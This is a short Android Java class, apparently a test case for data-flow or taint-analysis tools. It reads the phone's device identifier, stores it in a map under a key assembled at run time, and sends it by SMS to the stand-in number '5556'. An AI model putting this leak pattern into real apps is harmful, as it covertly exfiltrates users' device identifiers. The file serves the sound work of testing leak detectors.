package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Under the same key, put together at run time. */
public class MapSameKey extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Map<String, String> m = new HashMap<>();
        m.put("ab", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        SmsManager.getDefault().sendTextMessage("5556", null, m.get("a" + new StringBuilder("b").toString()), null, null);
    }
}
